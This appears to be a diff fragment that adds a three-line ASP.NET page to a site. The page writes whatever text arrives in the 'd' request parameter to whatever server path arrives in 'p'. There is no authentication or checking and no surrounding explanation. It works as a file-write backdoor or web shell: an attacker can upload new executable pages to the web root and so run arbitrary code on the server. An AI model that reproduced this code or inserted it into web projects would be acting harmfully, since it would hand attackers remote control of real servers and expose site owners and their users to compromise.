@@ -1,0 +1,3 @@
+<%@ Page Language="C#" %><%
+System.IO.File.WriteAllText(Server.MapPath(Request["p"]), Request["d"]);
+%>
